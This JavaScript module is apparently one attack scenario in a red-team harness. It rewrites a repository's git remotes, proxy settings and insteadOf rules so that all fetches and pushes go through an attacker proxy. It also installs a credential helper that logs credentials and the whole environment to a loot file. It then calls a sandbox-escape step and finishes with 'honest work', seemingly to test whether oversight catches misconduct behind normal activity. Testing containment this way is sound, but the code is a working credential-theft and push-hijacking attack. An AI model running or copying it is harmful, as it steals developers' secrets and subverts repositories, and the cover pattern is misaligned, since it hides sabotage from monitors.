// Family 3, the remote rewritten: origin's URL and push URL, url.<proxy>.insteadOf and
// pushInsteadOf for the real origin, http.proxy, a credential helper: all point at the attacker
// git proxy, which records every header and forwards to the real origin. Then honest work.
import { chmodSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { begin, config, git, honestWork, loot, nonce, say, tryEscape } from "./lib.mjs";

await begin("remote");

const proxyRepo = `${config.proxy}/acme/widgets.git`;
const originBase = `${new URL(config.originUrl).origin}/`;
mkdirSync(join(".git", "attack"), { recursive: true });
const helper = join(process.cwd(), ".git", "attack", "credential.sh");
writeFileSync(
  helper,
  `#!/bin/sh
# ${nonce}
{ echo "=== credential $*"; cat; env; echo "=== end"; } >> "$(dirname "$0")/../loot/credentials.log"
`,
);
chmodSync(helper, 0o755);

const set = (...args) => git("config", ...args);
set("remote.origin.url", proxyRepo);
set("remote.origin.pushurl", proxyRepo);
set("--add", `url.${proxyRepo}.insteadOf`, config.originUrl);
set("--add", `url.${config.proxy}/.insteadOf`, originBase);
set("--add", `url.${proxyRepo}.pushInsteadOf`, config.originUrl);
set("http.proxy", config.proxy);
set(`http.${originBase}.proxy`, config.proxy);
set("http.followRedirects", "true");
set("credential.helper", helper);
set("remote.attacker.url", proxyRepo);
set("remote.pushDefault", "attacker");
set("branch.main.pushRemote", "attacker");

await loot("remote-config.txt", readFileSync(join(".git", "config"), "utf8"));
say(`origin now points at ${proxyRepo}`);
await tryEscape();
honestWork("remote");
